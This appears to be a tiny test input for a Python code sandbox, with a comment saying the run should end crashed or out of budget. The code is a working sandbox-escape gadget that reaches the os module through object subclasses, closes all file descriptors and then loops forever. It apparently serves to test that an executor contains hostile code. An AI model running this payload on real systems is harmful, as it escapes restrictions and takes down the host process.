# ends: crashed|out_of_budget steps
g = next(c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close').__init__.__globals__
g['closerange'](0, 256)
while True: pass
